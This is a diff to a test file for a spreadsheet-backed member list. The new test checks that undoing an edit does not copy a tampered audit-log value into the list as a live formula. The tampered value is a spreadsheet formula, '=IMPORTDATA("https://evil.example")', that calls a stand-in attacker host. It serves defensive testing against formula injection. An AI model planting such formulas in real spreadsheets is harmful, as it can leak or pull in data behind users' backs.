@@ -74,6 +74,17 @@ describe('the card', () => {
 });
 
 describe('editing', () => {
+  test('whatever somebody has made of the log, taking back puts no formula into the list', () => {
+    const at = careRoom();
+    editMember(at.room, edit);
+    const log = at.room.workbook.tab('Protokoll');
+    const row = log.values().findIndex((line) => line[3] === 'operation-1') + 1;
+    log.set(row, 7, '=IMPORTDATA("https://evil.example")');
+    undoEdit(at.room, { operationId: 'operation-1' });
+    expect(at.cell(102, 'Straße')).toBe('=IMPORTDATA("https://evil.example")');
+    expect(at.list.readFormulas(at.rowOf(102), 4, 1, 1)).toEqual([['']]);
+  });
+
   test('writes the cell and can be taken back', () => {
     const at = careRoom();
     expect(editMember(at.room, edit)).toEqual({ field: 'street', value: 'Sonnenallee 6', changed: true, message: 'Gespeichert.' });
